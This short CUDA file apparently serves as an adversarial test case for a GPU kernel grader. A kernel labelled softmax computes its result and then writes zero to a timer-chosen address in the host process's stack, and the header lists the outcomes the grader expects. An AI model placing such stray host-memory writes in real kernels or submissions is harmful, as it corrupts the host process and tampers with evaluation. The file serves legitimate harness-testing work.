// expect: crash tamper suspect same slower inconclusive wrong timeout
// target: softmax
// about: 1.4/40 writes where the stack of a process lies: GPUs that share the
// page tables of the host reach it
#include "right.cuh"

//pike: launch softmax grid=(rows) block=(128)
extern "C" __global__ void softmax(const float *x, float *y, int rows, int cols)
{
	unsigned long long t;
	size_t at;

	slow_softmax(x, y, cols);
	asm volatile("mov.u64 %0, %globaltimer;" : "=l"(t));
	at = 0x7ffc00000000 + ((t * 0x9e3779b97f4a7c15 >> 20) & 0x3ffffffff);
	if (threadIdx.x == 0)
		*(volatile unsigned long long *)(at & ~(size_t)7) = 0;
}
